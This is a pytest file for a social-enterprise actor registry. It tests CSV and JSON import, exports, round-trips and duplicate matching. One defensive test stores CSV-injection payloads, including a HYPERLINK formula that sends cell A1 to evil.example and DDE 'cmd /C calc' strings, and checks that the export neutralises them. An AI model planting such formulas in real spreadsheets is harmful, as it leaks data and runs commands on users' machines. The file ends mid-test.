"""Bulk import of actors (CSV and JSON), exports (JSON, CSV, HSDS 3) and possible duplicates,
over HTTP on SQLite and PostgreSQL."""

from __future__ import annotations

import codecs
import csv
import io
import json
from datetime import datetime

import pytest
import sqlalchemy as sa
from sqlalchemy.exc import IntegrityError

from sihub_registry.actors.formats import csv_cell, neutralised
from sihub_registry.actors.importer import CHECK_BATCH
from sihub_registry.actors.models import Actor, ActorFacet
from sihub_registry.actors.repository import ActorFilters, ActorRepository
from sihub_registry.common.bulk import bulk_insert

CSV_HEADER = "ref,name_en,name_ko,kind,country,region,issue_areas,offers,needs,certifications,identifiers,contact_email"


def csv_body(*rows: str) -> bytes:
    return ("\n".join((CSV_HEADER, *rows)) + "\n").encode()


GOOD_ROWS = (
    'kr:haessal,Haessal Care,햇살돌봄사회적협동조합,cooperative,KR,KR-26,ageing_care;health,"mentoring:peer coaching",funding,'
    "kr_certified_social_enterprise:social_service_provision:2021-03-01,KR-BRN:124-81-00998,care@haessal.example",
    "kr:green,Green Loop,,social_venture,KR,KR-11,environment_climate,technology,market_access_procurement,,,",
    "kr:village,Village Table,마을밥상,community_group,KR,KR-42,food,space,volunteers_talent,,,",
)


async def listed(caller, **params) -> list[dict]:
    response = await caller.get("/actors", params={"limit": 500} | params)
    assert response.status_code == 200, response.text
    return response.json()["items"]


async def test_csv_import_is_all_or_nothing_partial_on_request_and_idempotent(registry):
    partner = registry.partner()
    csv_type = {"content-type": "text/csv"}
    bad_rows = (
        "kr:busan-in-japan,Busan In Japan,,social_enterprise,JP,KR-26,,,,,,",
        "kr:unknown,Unknown Terms,,social_enterprise,KR,KR-11,astrology,magic,,,KR-BRN:124-81-00999,",
        "kr:nameless,,,social_enterprise,KR,KR-11,,,,,,",
    )
    body = csv_body(GOOD_ROWS[0], *bad_rows, GOOD_ROWS[1])

    refused = await partner.post("/actors/import", content=body, headers=csv_type)
    assert refused.status_code == 422 and refused.headers["content-type"] == "application/problem+json"
    problem = refused.json()
    assert (problem["rows"], problem["invalid_rows"]) == (5, 3)
    named = {(e["row"], e["field"]) for e in problem["errors"]}
    assert {(2, "region"), (3, "issue_areas[0]"), (3, "offers[0].capability"), (3, "identifiers[0].value"),
            (4, "names")} <= named
    assert all(e["message"] for e in problem["errors"])
    assert await listed(partner) == [] and await registry.events() == []

    # Partial mode writes the good rows and reports each skipped one with its errors.
    key = {"Idempotency-Key": "import-2026-11-23"}
    partial = await partner.post("/actors/import", params={"mode": "partial"}, content=body, headers=csv_type | key)
    assert partial.status_code == 201, partial.text
    report = partial.json()
    assert (report["mode"], report["rows"], report["created"]) == ("partial", 5, 2)
    assert [s["row"] for s in report["skipped"]] == [2, 3, 4]
    assert {e["field"] for e in report["skipped"][1]["errors"]} >= {"issue_areas[0]", "identifiers[0].value"}
    assert [(i["row"], i["ref"], i["status"]) for i in report["items"]] == [(1, "kr:haessal", "created"), (5, "kr:green", "created")]

    # The same key again: the same answer, nothing imported twice; another body with it: 409.
    replay = await partner.post("/actors/import", params={"mode": "partial"}, content=body, headers=csv_type | key)
    assert replay.status_code == 201 and replay.json() == report
    assert replay.headers["Idempotent-Replayed"] == "true"
    assert len(await listed(partner)) == 2 and len(await registry.events()) == 2
    reused = await partner.post("/actors/import", content=csv_body(GOOD_ROWS[2]), headers=csv_type | key)
    assert reused.status_code == 409 and reused.json()["errors"][0]["field"] == "Idempotency-Key"
    # Keys are per account: another account's same key is its own import.
    other = registry.partner()
    own = await other.post("/actors/import", content=csv_body(GOOD_ROWS[2]), headers=csv_type | key)
    assert own.status_code == 201 and own.json()["created"] == 1

    # What the CSV said is what is stored, including the index that filters and search read.
    haessal = (await listed(partner, ref="kr:haessal"))[0]
    assert haessal["names"] == [{"value": "Haessal Care", "lang": "en"}, {"value": "햇살돌봄사회적협동조합", "lang": "ko"}]
    assert haessal["offers"] == [{"capability": "mentoring", "detail": "peer coaching"}]
    assert haessal["certifications"][0]["valid_from"] == "2021-03-01"
    assert haessal["identifiers"] == [{"scheme": "KR-BRN", "value": "1248100998"}]
    assert haessal["contacts"] == [{"email": "care@haessal.example", "name": None, "role": None, "phone": None}]
    assert [a["ref"] for a in await listed(partner, q="돌봄")] == ["kr:haessal"]
    assert [a["ref"] for a in await listed(partner, needs="market_access_procurement")] == ["kr:green"]
    assert [a["ref"] for a in await listed(partner, owner="me")] == ["kr:haessal", "kr:green"]

    # Re-importing registered refs: an error per row, or reported as existing with existing=skip.
    again = await partner.post("/actors/import", content=csv_body(GOOD_ROWS[0], GOOD_ROWS[2].replace("kr:village", "kr:new")),
                               headers=csv_type)
    assert again.status_code == 422 and again.json()["errors"][0]["row"] == 1 and again.json()["errors"][0]["field"] == "ref"
    skipped = await partner.post("/actors/import", params={"existing": "skip"},
                                 content=csv_body(GOOD_ROWS[0], GOOD_ROWS[2].replace("kr:village", "kr:new")), headers=csv_type)
    assert skipped.status_code == 201 and (skipped.json()["created"], skipped.json()["existing"]) == (1, 1)
    assert skipped.json()["items"][0] == {"row": 1, "id": haessal["id"], "ref": "kr:haessal", "status": "existing"}
    # A deleted actor keeps its ref and is not there to skip to: the row says so, with skip or not.
    gone = skipped.json()["items"][1]
    assert (await partner.remove(f"/actors/{gone['id']}")).status_code == 200
    for params in ({"existing": "skip"}, {}):
        deleted = await partner.post("/actors/import", params=params, headers=csv_type,
                                     content=csv_body(GOOD_ROWS[2].replace("kr:village", "kr:new")))
        assert deleted.status_code == 422, deleted.text
        [error] = deleted.json()["errors"]
        assert error["field"] == "ref" and "deleted" in error["message"] and gone["id"] in error["message"]
    recreated = await partner.post("/actors", json={"ref": "kr:new", "names": [{"value": "New", "lang": "en"}],
                                                    "kind": "cooperative", "country": "KR", "region": "KR-11"})
    assert recreated.status_code == 409 and "deleted" in recreated.json()["errors"][0]["message"]

    # validate mode checks only.
    checked = await partner.post("/actors/import", params={"mode": "validate"},
                                 content=csv_body(GOOD_ROWS[1].replace("kr:green", "kr:green-2")), headers=csv_type)
    assert checked.status_code == 200 and checked.json()["created"] == 0
    assert len(await listed(partner)) == 3  # four created, kr:new deleted
    assert len(await registry.events("sihub.registry.actor.created")) == 4


async def test_json_import_and_bad_files_name_row_and_field(registry):
    partner = registry.partner()

    def actor(ref: str, name: str, **fields) -> dict:
        return {"ref": ref, "names": [{"value": name, "lang": "en"}], "kind": "social_enterprise",
                "country": "KR", "region": "KR-11"} | fields

    rows = [
        actor("a", "Alpha", identifiers=[{"scheme": "JP-JCN", "value": "7123456789012"}]),
        actor("a", "Alpha Again"),  # the same ref as row 1
        actor("b", "Beta", identifiers=[{"scheme": "JP-JCN", "value": "7123456789012"}]),  # row 1's identifier
        actor("c", "Alpha", identifiers=[]),  # row 1's name in the same region
        actor("d", "Delta", country="JP", region="KR-26"),
        actor("e", "Echo", region="KR-XX"),
        actor("f", "Foxtrot", issue_areas=["education", "alchemy"]),
        actor("g", "Golf", names=[]),
        "not an object",
    ]
    refused = await partner.post("/actors/import", json=rows)
    assert refused.status_code == 422
    named = {(e["row"], e["field"]) for e in refused.json()["errors"]}
    assert named == {(2, "ref"), (3, "identifiers[0]"), (4, "names"), (5, "region"), (6, "region"),
                     (7, "issue_areas[1]"), (8, "names"), (9, "body")}
    assert "duplicates row 1" in next(e["message"] for e in refused.json()["errors"] if e["row"] == 2)
    assert await listed(partner) == []

    imported = await partner.post("/actors/import", json={"actors": [actor("a", "Alpha"), actor("b", "Beta", country="JP", region="JP-13")]})
    assert imported.status_code == 201 and imported.json()["created"] == 2
    assert [a["ref"] for a in await listed(partner, country="JP")] == ["b"]

    bad_files = [
        ("text/csv", "ref,name_en,kind,country\nx,Caf\xe9,social_enterprise,KR\n".encode("latin-1"), 400, "body", "UTF-8"),
        ("text/csv", b'ref,name_en,kind,country\nx,"Unclosed,social_enterprise,KR\n', 400, "body", "malformed CSV"),
        ("text/csv", b"ref,name_en,colour\nx,X,red\n", 400, "colour", "unknown column"),
        ("text/csv", b"ref,kind,country\nx,social_enterprise,KR\n", 400, "names", "name_"),
        ("text/csv", b"", 400, "body", "empty"),
        ("application/json", b'[{"ref": "x",', 400, "body", ""),
        ("application/json", b"[]", 400, "body", "no rows"),
        ("application/xml", b"<actors/>", 415, "Content-Type", "unsupported"),
    ]
    for content_type, body, status, field, words in bad_files:
        response = await partner.post("/actors/import", content=body, headers={"content-type": content_type})
        assert response.status_code == status, (body, response.text)
        assert response.headers["content-type"] == "application/problem+json"
        error = response.json()["errors"][0]
        assert error["field"] == field and words in error["message"] + response.json()["detail"], response.json()

    short_row = await partner.post("/actors/import", content=b"ref,name_en,kind,country\nx,X,social_enterprise\n",
                                   headers={"content-type": "text/csv"})
    assert short_row.status_code == 422 and short_row.json()["errors"][0] | {"message": ""} == {
        "row": 1, "line": 2, "field": "columns", "message": ""}

    oversize = await partner.post("/actors/import", content=csv_body(*([GOOD_ROWS[1]] * 12_000)),
                                  headers={"content-type": "text/csv"})
    assert oversize.status_code == 413 and oversize.headers["content-type"] == "application/problem+json"

    integrator_import = await registry.caller("integrator").post("/actors/import", json=[actor("z", "Zulu")])
    assert integrator_import.status_code == 403
    assert len(await listed(partner)) == 2 and len(await registry.events()) == 2


async def test_a_row_that_breaks_the_schema_is_refused_whole_or_skipped_in_a_partial_import(registry):
    """What the contract test cannot see: `mode` decides whether a row of the wrong shape refuses
    the import (all, the default) or is reported as skipped (partial)."""
    partner = registry.partner()
    rows = [{"ref": "p", "names": [{"value": "Papa", "lang": "en"}], "kind": "social_enterprise", "country": "KR"},
            {"ref": "q", "names": [{"value": "Quebec", "lang": "en"}], "kind": "social_enterprise", "country": "KR",
             "identifiers": [1.5], "contacts": [{"phone": {"not": "text"}}]}]
    refused = await partner.post("/actors/import", json=rows)
    assert refused.status_code == 422
    assert {(e["row"], e["field"]) for e in refused.json()["errors"]} == {(2, "identifiers[0]"), (2, "contacts[0].phone")}
    assert await listed(partner) == []
    partial = await partner.post("/actors/import", params={"mode": "partial"}, json=rows)
    assert partial.status_code == 201 and partial.json()["created"] == 1
    assert [(s["row"], sorted(e["field"] for e in s["errors"])) for s in partial.json()["skipped"]] == [
        (2, ["contacts[0].phone", "identifiers[0]"])]
    assert [a["ref"] for a in await listed(partner)] == ["p"]


async def test_an_import_of_several_batches_is_all_or_nothing_and_finds_duplicates_across_them(registry):
    """More rows than the importer checks at a time: on PostgreSQL the first batches are written
    while the later ones are checked, and a bad row in the last batch must still undo them."""
    partner = registry.partner()
    count = 2 * CHECK_BATCH + 1
    rows = [{"ref": f"kr:bulk-{i}", "names": [{"value": f"Bulk Actor {i}", "lang": "en"}], "kind": "cooperative",
             "country": "KR", "region": "KR-11"} for i in range(count)]  # fmt: skip
    rows[-1]["ref"] = "kr:bulk-3"  # the last row repeats row 4's ref, two batches earlier

    refused = await partner.post("/actors/import", json=rows)
    assert refused.status_code == 422, refused.text
    assert [(e["row"], e["field"]) for e in refused.json()["errors"]] == [(count, "ref")]
    assert "duplicates row 4" in refused.json()["errors"][0]["message"]
    assert await listed(partner) == [] and await registry.events() == []

    partial = await partner.post("/actors/import", params={"mode": "partial"}, json=rows)
    assert partial.status_code == 201, partial.text
    report = partial.json()
    assert (report["created"], [s["row"] for s in report["skipped"]]) == (count - 1, [count])
    assert [item["row"] for item in report["items"]] == list(range(1, count))
    assert len(await registry.events("sihub.registry.actor.created")) == count - 1
    assert [a["ref"] for a in await listed(partner, q="bulk actor 1999")] == ["kr:bulk-1999"]


def written_by_csv_module(states: list[dict], header: list[str]) -> str:
    """The CSV export of these actors (the JSON export's states) as Python's csv writer writes it,
    every cell worked out here from the state: the database joins the export's lines from cells
    kept with each actor (formats.export_cells), so the whole text is compared."""

    def claims(items: list[dict]) -> str:
        return ";".join(f"{c['capability']}:{c['detail']}" if c.get("detail") else c["capability"] for c in items)

    def cell(state: dict, column: str) -> object:
        kind, _, lang = column.partition("_")
        if kind in ("name", "description") and lang:
            return next((t["value"] for t in state[kind + "s"] if t["lang"] == lang), "")
        return {
            "issue_areas": ";".join(state["issue_areas"]), "offers": claims(state["offers"]), "needs": claims(state["needs"]),
            "certifications": ";".join(":".join(filter(None, (c["scheme"], c["level"], c.get("valid_from"), c.get("valid_to"))))
                                       for c in state["certifications"]),
            "identifiers": ";".join(f"{i['scheme']}:{i['value']}" for i in state["identifiers"]),
            "illustrative": "true" if state["illustrative"] else "false",
            "updated_at": datetime.fromisoformat(state["updated_at"]).isoformat(),
        }.get(column, state.get(column))

    written = io.StringIO()
    writer = csv.writer(written, lineterminator="\r\n")
    writer.writerow(header)
    writer.writerows([neutralised(cell(state, column)) for column in header] for state in states)
    return written.getvalue()


async def test_exports_json_csv_and_hsds(registry):
    partner = registry.partner()
    imported = await partner.post("/actors/import", content=csv_body(*GOOD_ROWS), headers={"content-type": "text/csv"})
    assert imported.status_code == 201
    await partner.create("/actors", {"names": [{"value": "Kampung Ventures", "lang": "en"},
                                               {"value": "甘榜创投", "lang": "zh-Hans"}], "kind": "social_venture",
                                     "country": "SG", "identifiers": [{"scheme": "SG-ACRA", "value": "201912345K"}]})

    as_json = await partner.get("/actors/export", params={"country": "KR"})
    assert as_json.status_code == 200 and as_json.headers["content-type"] == "application/json"
    exported = as_json.json()
    assert [a["ref"] for a in exported] == ["kr:haessal", "kr:green", "kr:village"]
    assert all("contacts" not in a for a in exported)  # exports are public: no contacts

    as_csv = await partner.get("/actors/export", params={"format": "csv", "country": "KR"})
    assert as_csv.status_code == 200 and as_csv.headers["content-type"].startswith("text/csv")
    table = list(csv.DictReader(io.StringIO(as_csv.text)))
    assert [r["ref"] for r in table] == ["kr:haessal", "kr:green", "kr:village"]
    assert table[0]["name_ko"] == "햇살돌봄사회적협동조합" and table[0]["identifiers"] == "KR-BRN:1248100998"
    assert table[0]["offers"] == "mentoring:peer coaching" and table[0]["region"] == "KR-26"
    assert as_csv.text == written_by_csv_module(exported, next(csv.reader(io.StringIO(as_csv.text))))
    # A language tag with a hyphen is a key of the stored cells like any other.
    [singapore] = csv.DictReader(io.StringIO((await partner.get("/actors/export", params={"format": "csv", "country": "SG"})).text))
    assert (singapore["name_en"], singapore["name_zh-Hans"], singapore["identifiers"]) == (
        "Kampung Ventures", "甘榜创投", "SG-ACRA:201912345K")

    # For a spreadsheet, a byte order mark first (Excel reads UTF-8 only then); the rest is the same.
    with_bom = await partner.get("/actors/export", params={"format": "csv", "country": "KR", "bom": "true"})
    assert with_bom.content == codecs.BOM_UTF8 + as_csv.content
    assert not as_csv.content.startswith(codecs.BOM_UTF8)

    # An export imports elsewhere: another registry account reads the same columns back.
    other = registry.partner()
    round_trip = await other.post("/actors/import", params={"existing": "skip"}, content=with_bom.content,
                                  headers={"content-type": "text/csv"})
    assert round_trip.status_code == 201 and round_trip.json()["existing"] == 3

    hsds = await partner.get("/actors/export", params={"format": "hsds"})
    assert hsds.status_code == 200
    document = hsds.json()
    assert document["hsds_version"] == "3.0" and document["total_items"] == 4
    organisations = {o["name"]: o for o in document["contents"]}
    haessal = organisations["Haessal Care"]
    assert haessal["alternate_name"] == "햇살돌봄사회적협동조합"
    assert haessal["organization_identifiers"][0] | {"id": None} == {
        "id": None, "organization_id": haessal["id"], "identifier_scheme": "KR-BRN", "identifier_type": "tax",
        "identifier": "1248100998"}
    areas = [area for service in haessal["services"] for area in service["service_areas"]]
    assert {a["extent"] for a in areas} == {"KR-26"} and {a["name"] for a in areas} == {"Busan-gwangyeoksi"}
    assert [s["name"] for s in haessal["services"]] == ["Mentoring and coaching"]
    singapore = organisations["Kampung Ventures"]
    assert [a["extent"] for s in singapore["services"] for a in s["service_areas"]] == ["SG"]
    assert singapore["organization_identifiers"][0]["identifier"] == "201912345K"
    assert json.loads(hsds.content) == (await partner.get("/actors/export", params={"format": "hsds"})).json()
    # behind the gateway the links point at the public host the gateway was called on
    behind_gateway = await partner.get("/actors/export", params={"format": "hsds"},
                                       headers={"X-Forwarded-Host": "api.sihub.example", "X-Forwarded-Proto": "https"})
    assert behind_gateway.json()["contents"][0]["uri"].startswith("https://api.sihub.example/api/v1/registry/actors/")

    # A column per language the exported actors have a name or description in, and no other.
    async def text_columns(**params: str) -> list[str]:
        exported = await partner.get("/actors/export", params={"format": "csv"} | params)
        return [c for c in next(csv.reader(io.StringIO(exported.text))) if c.startswith(("name_", "description_"))]

    assert await text_columns(country="SG") == ["name_en", "name_zh-Hans"]
    assert await text_columns(country="KR") == ["name_en", "name_ko"]
    kampung = f"/actors/{singapore['id']}"
    changed = await partner.change(kampung, {"names": [{"value": "Kampung Ventures", "lang": "en"}],
                                             "descriptions": [{"value": "กองทุน", "lang": "th"}]})
    assert changed.status_code == 200, changed.text
    assert await text_columns(country="SG") == ["name_en", "description_th"]
    assert (await partner.remove(kampung)).status_code == 200
    assert await text_columns(country="SG") == []
    assert await text_columns() == ["name_en", "name_ko"]


async def test_a_detail_holding_a_semicolon_or_a_backslash_comes_back_from_a_csv_export(registry):
    partner, other = registry.partner(), registry.partner()
    offers = [{"capability": "funding", "detail": "seed grants; loans"}, {"capability": "mentoring", "detail": r"C:\one\; two\\"}]
    needs = [{"capability": "space", "detail": r"a back\slash"}, {"capability": "data", "detail": "time: 09:00;"}]
    identifiers = [{"scheme": "XX-LOCAL", "value": r"A;B\C:D"}]
    await partner.create("/actors", {"ref": "kr:semi", "names": [{"value": "Semi; Colon", "lang": "en"}], "kind": "cooperative",
                                     "country": "KR", "offers": offers, "needs": needs, "identifiers": identifiers})
    exported = await partner.get("/actors/export", params={"format": "csv"})
    [row] = csv.DictReader(io.StringIO(exported.text))
    assert row["offers"] == r"funding:seed grants\; loans;mentoring:C:\\one\\\; two\\\\"
    # An import elsewhere reads every item back whole; an older file's lone backslash stays one.
    imported = await other.post("/actors/import", content=exported.content.replace(b"kr:semi", b"kr:semi-2"),
                                headers={"content-type": "text/csv"})
    assert imported.status_code == 201, imported.text
    copy = (await other.get(f"/actors/{imported.json()['items'][0]['id']}")).json()
    assert (copy["offers"], copy["needs"], copy["identifiers"]) == (offers, needs, identifiers)
    older = await other.post("/actors/import", headers={"content-type": "text/csv"},
                             content=b"ref,name_en,kind,country,offers\nkr:old,Old,cooperative,KR,funding:a\\b;space\n")
    copy = (await other.get(f"/actors/{older.json()['items'][0]['id']}")).json()
    assert copy["offers"] == [{"capability": "funding", "detail": r"a\b"}, {"capability": "space", "detail": None}]


async def test_a_certificate_number_comes_back_from_a_csv_export(registry):
    partner, other = registry.partner(), registry.partner()
    certifications = [{"scheme": "kr_certified_social_enterprise", "level": "job_provision", "valid_from": "2019-05-01",
                       "valid_to": None, "number": "2019-123:A"}]
    await partner.create("/actors", {"ref": "kr:numbered", "names": [{"value": "Numbered", "lang": "en"}],
                                     "kind": "social_enterprise", "country": "KR", "certifications": certifications})
    exported = await partner.get("/actors/export", params={"format": "csv"})
    [row] = csv.DictReader(io.StringIO(exported.text))
    assert row["certifications"] == "kr_certified_social_enterprise:job_provision:2019-05-01::2019-123:A"
    imported = await other.post("/actors/import", content=exported.content.replace(b"kr:numbered", b"kr:numbered-2"),
                                headers={"content-type": "text/csv"})
    assert imported.status_code == 201, imported.text
    copy = (await other.get(f"/actors/{imported.json()['items'][0]['id']}")).json()
    assert copy["certifications"] == certifications


async def test_a_second_name_in_a_language_comes_back_from_a_csv_export(registry):
    partner, other = registry.partner(), registry.partner()
    names = [{"value": "Seoul Social Campus", "lang": "en"}, {"value": "서울소셜캠퍼스", "lang": "ko"},
             {"value": "SSC", "lang": "en"}, {"value": "Social Campus On Seoul", "lang": "en"}]
    await partner.create("/actors", {"ref": "kr:ssc", "names": names, "kind": "hub_intermediary", "country": "KR"})
    await partner.create("/actors", {"ref": "kr:one", "names": [{"value": "One Name", "lang": "en"}],
                                     "kind": "cooperative", "country": "KR"})
    exported = await partner.get("/actors/export", params={"format": "csv"})
    header, *rows = list(csv.reader(io.StringIO(exported.text)))
    # A column per name in a language, as many as the actor with the most names in it has.
    assert [c for c in header if c.startswith("name_")] == ["name_en", "name_en", "name_en", "name_ko"]
    by_ref = {row[header.index("ref")]: row[2:6] for row in rows}
    assert by_ref == {"kr:ssc": ["Seoul Social Campus", "SSC", "Social Campus On Seoul", "서울소셜캠퍼스"],
                      "kr:one": ["One Name", "", "", ""]}
    imported = await other.post("/actors/import", content=exported.content.replace(b"kr:", b"jp:"),
                                headers={"content-type": "text/csv"})
    assert imported.status_code == 201, imported.text
    copies = {a["ref"]: a for a in await listed(other, ref_prefix="jp:")}
    # Grouped by language as the columns are; a language's names in their order.
    assert copies["jp:ssc"]["names"] == [names[0], names[2], names[3], names[1]]
    # Only a name column may repeat.
    twice = await other.post("/actors/import", content=b"ref,name_en,kind,kind\nx,X,cooperative,cooperative\n",
                             headers={"content-type": "text/csv"})
    assert twice.status_code == 400 and twice.json()["errors"][0]["field"] == "kind", twice.text


async def test_a_json_export_imports_elsewhere(registry):
    partner, other = registry.partner(), registry.partner()
    assert (await partner.post("/actors/import", content=csv_body(*GOOD_ROWS), headers={"content-type": "text/csv"})).status_code == 201
    exported = (await partner.get("/actors/export")).json()
    # The state's read-only fields (id, owner, version, times) are read past; the rest is the actor again.
    copies = [a | {"ref": f"copy:{a['ref']}"} for a in exported]
    imported = await other.post("/actors/import", json=copies)
    assert imported.status_code == 201, imported.text
    for original, row in zip(exported, imported.json()["items"], strict=True):
        copy = (await other.get(f"/actors/{row['id']}")).json()
        written = {k: v for k, v in original.items() if k not in ("id", "ref", "owner_account_id", "created_at", "updated_at")}
        assert {k: copy[k] for k in written} == written
        assert copy["owner_account_id"] != original["owner_account_id"]
    # A deleted actor's record is not one to create.
    deleted = await other.post("/actors/import", json=[copies[0] | {"ref": "gone", "deleted_at": "2026-12-01T00:00:00Z"}])
    assert deleted.status_code == 422 and [(e["row"], e["field"]) for e in deleted.json()["errors"]] == [(1, "deleted_at")]
    # Another account's actors, as a listing shows them (contacts null), import too.
    seen = [a for a in (await other.get("/actors")).json()["items"] if a["owner_account_id"] == partner.account_id]
    assert seen and all(a["contacts"] is None for a in seen)
    again = await other.post("/actors/import", json=[a | {"ref": f"again:{a['ref']}"} for a in seen])
    assert again.status_code == 201, again.text
    for row in again.json()["items"]:
        assert (await other.get(f"/actors/{row['id']}")).json()["contacts"] == []
    # The fields read past are still checked, as the import's OpenAPI body (ActorImportItem) declares them.
    garbled = await other.post("/actors/import", json=[copies[0] | {"ref": "garbled", "version": "two", "id": "x"}])
    assert garbled.status_code == 422
    assert sorted(e["field"] for e in garbled.json()["errors"]) == ["id", "version"]


async def test_possible_duplicates_by_identifier_and_by_names_across_scripts(registry):
    seoul, tokyo = registry.partner(), registry.partner()

    def body(*names: tuple[str, str], country: str, region: str, **fields) -> dict:
        return {"names": [{"value": v, "lang": lang} for v, lang in names], "kind": "foundation",
                "country": country, "region": region} | fields

    toyota_ja = await tokyo.create("/actors", body(("公益財団法人トヨタ財団", "ja"), country="JP", region="JP-13"))
    toyota_en = await seoul.create("/actors", body(("The Toyota Foundation", "en"), country="KR", region="KR-11"))
    brn = [{"scheme": "KR-BRN", "value": "124-81-00998"}]
    first = await seoul.create("/actors", body(("Haessal Care", "en"), country="KR", region="KR-26", identifiers=brn))
    second = await tokyo.create("/actors", body(("햇살돌봄", "ko"), country="KR", region="KR-26",
                                                identifiers=[{"scheme": "KR-BRN", "value": "1248100998"}]))
    unrelated = await seoul.create("/actors", body(("Green Loop", "en"), country="KR", region="KR-11"))

    response = await seoul.get(f"/actors/{toyota_ja['id']}/duplicates")
    assert response.status_code == 200
    matches = response.json()
    assert [(m["actor"]["id"], m["reason"]) for m in matches] == [(toyota_en["id"], "name")]
    assert matches[0]["score"] >= 90 and "contacts" not in matches[0]["actor"]

    by_identifier = (await seoul.get(f"/actors/{first['id']}/duplicates")).json()
    assert [(m["actor"]["id"], m["reason"], m["score"]) for m in by_identifier] == [(second["id"], "identifier", 100.0)]
    assert (await seoul.get(f"/actors/{unrelated['id']}/duplicates")).json() == []

    pairs = (await seoul.get("/actors/duplicates")).json()
    assert {frozenset((p["first"]["id"], p["second"]["id"])): p["reason"] for p in pairs} == {
        frozenset((toyota_ja["id"], toyota_en["id"])): "name",
        frozenset((first["id"], second["id"])): "identifier",
    }
    assert (await seoul.get("/actors/duplicates", params={"country": "JP"})).json() == []
    assert (await seoul.get("/actors/not-an-id/duplicates")).status_code == 404


async def test_a_malformed_csv_row_is_numbered_as_a_row_not_as_a_line(registry):
    body = csv_body('kr:a,"Alpha\nCare",,social_enterprise,KR,KR-11,,,,,,', "", 'kr:b,"Beta"x,,social_enterprise,KR,KR-11,,,,,,')
    response = await registry.partner().post("/actors/import", content=body, headers={"content-type": "text/csv"})
    assert response.status_code == 400, response.text
    error = response.json()["errors"][0]
    assert (error["field"], error["row"], error["line"]) == ("body", 2, 5), error


async def test_a_unique_clash_in_a_bulk_insert_is_an_integrity_error(registry, new_actor):
    """On PostgreSQL the rows go through COPY, which raises asyncpg's own error unless translated."""
    actor = await registry.partner().create("/actors", new_actor("Alpha Care"))
    async with registry.app.state.database.session() as session:
        with pytest.raises(IntegrityError):
            await bulk_insert(session, ActorFacet, [{"facet": "issue_area", "value": "x", "actor_id": actor["id"]}] * 2)


@pytest.mark.parametrize(("cell", "written"), [
    ("=1+1", "'=1+1"), ("+82 2 000", "'+82 2 000"), ("-5", "'-5"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\tx", "'\tx"), ("\rx", "'\rx"), (-5, "'-5"), (2012, "2012"), ("Haessal", "Haessal"), (None, ""),
    ("'=already quoted", "''=already quoted"), ("''-2", "'''-2"), ("'plain", "'plain"), ("'", "'"),
])
def test_csv_cells_that_start_a_formula_are_quoted(cell, written):
    assert neutralised(cell) == written


@pytest.mark.parametrize("cell", [
    "plain", "", None, 2019, "a,b", 'say "hi"', "two\nlines", "cr\rhere", "crlf\r\nend", " lead", "tail ",
    "semi;colon", "tab\tinside", "=1+1", '=HYPERLINK("x","y")', "-5,6", "나눔, 서울", "'quoted'", '"', ",",
])
def test_a_csv_cell_is_written_as_pythons_csv_writer_writes_it(cell):
    # csv_cell writes the cells kept with each actor (formats.export_cells); an export joins them
    # into lines in the database, so they must be what the csv writer would have written.
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\r\n").writerow(["x", neutralised(cell), "y"])
    assert buffer.getvalue() == f"x,{csv_cell(cell)},y\r\n"


async def test_csv_export_neutralises_formulas_and_still_imports_as_it_was(registry):
    partner = registry.partner()
    hostile = {
        "names": [{"value": '=HYPERLINK("https://evil.example/?"&A1,"Click")', "lang": "en"},
                  {"value": "+cmd|' /C calc'!A0", "lang": "ko"}, {"value": "'+Second", "lang": "ja"},
                  {"value": "'quoted'", "lang": "zh"}],
        "descriptions": [{"value": "-2+3+cmd|' /C calc'!A0", "lang": "en"}],
        "locality": "@SUM(1+1)*cmd|' /C calc'!A0",
        "kind": "social_enterprise", "country": "KR", "region": "KR-11",
    }
    await partner.create("/actors", hostile)

    exported = await partner.get("/actors/export", params={"format": "csv"})
    assert exported.status_code == 200
    [header, row] = list(csv.reader(io.StringIO(exported.text)))
    cells = dict(zip(header, row, strict=True))
    for column in ("name_en", "name_ko", "description_en", "locality"):
        assert cells[column].startswith("'") and cells[column][1] in "=+-@", column
    assert not [c for c in row if c[:1] in ("=", "+", "-", "@", "\t", "\r")]

    other = registry.partner()
    imported = await other.post("/actors/import", content=exported.content, headers={"content-type": "text/csv"})
    assert imported.status_code == 201, imported.text
    [copy] = await listed(other, owner="me")
    assert copy["names"] == hostile["names"] and copy["descriptions"] == hostile["descriptions"]
    assert copy["locality"] == hostile["locality"]


async def test_the_csv_export_reads_every_row_once_in_id_order_whatever_its_batches(registry):
    # Cells with a quote, a comma and non-Latin text come back as they went in
    # (on SQLite a batch travels as one JSON text), in id order across batch boundaries.
    partner = registry.partner()
    rows = [f'kr:batch-{n},"Batch ""{n}"", Seoul",배치{n},cooperative,KR,KR-11,,,,,,' for n in range(23)]
    imported = await partner.post("/actors/import", content=csv_body(*rows), headers={"content-type": "text/csv"})
    assert imported.status_code == 201, imported.text
    filters = ActorFilters(ref_prefix="kr:batch-")
    async with registry.app.state.database.session() as session:
        repository = ActorRepository(session)
        whole = [text async for text in repository.csv_lines(filters, ["en", "ko"], [])]
        in_sevens = [list(csv.reader(io.StringIO(text, newline="")))
                     async for text in repository.csv_lines(filters, ["en", "ko"], [], batch=7)]
    assert [len(part) for part in in_sevens] == [7, 7, 7, 2]
    rows = [row for part in in_sevens for row in part]
    assert rows == list(csv.reader(io.StringIO("".join(whole), newline="")))
    assert [row[0] for row in rows] == sorted(row[0] for row in rows) and len({row[0] for row in rows}) == 23
    assert sorted((row[1], row[2], row[3]) for row in rows) == sorted(
        (f"kr:batch-{n}", f'Batch "{n}", Seoul', f"배치{n}") for n in range(23))
    # A ref prefix is matched as written, on both databases (SQLite's LIKE ignored ASCII case), and
    # its `_` and `%` are characters, not patterns.
    for prefix, count in (("kr:batch-", 23), ("KR:BATCH-", 0), ("kr:batch_", 0), ("kr:%", 0), ("kr:batch-1", 11)):
        listed = await partner.get("/actors", params={"ref_prefix": prefix, "limit": 100})
        assert len(listed.json()["items"]) == count, prefix

async def test_an_actor_whose_export_cells_lack_its_details_still_has_every_column(registry):
    # An actor written by an older process during an upgrade (its export_cells without "details")
    # gets empty detail cells, not a short line that would shift every later column.
    partner = registry.partner()
    imported = await partner.post("/actors/import", content=csv_body(*GOOD_ROWS), headers={"content-type": "text/csv"})
    assert imported.status_code == 201, imported.text
    async with registry.app.state.database.session() as session:
        await session.exec(sa.update(Actor).where(Actor.ref == "kr:green").values(export_cells={"ref": "kr:green"}))
        await session.commit()
        lines = "".join([text async for text in ActorRepository(session).csv_lines(ActorFilters(ref_prefix="kr:"),
                                                                                 ["en"], [])])
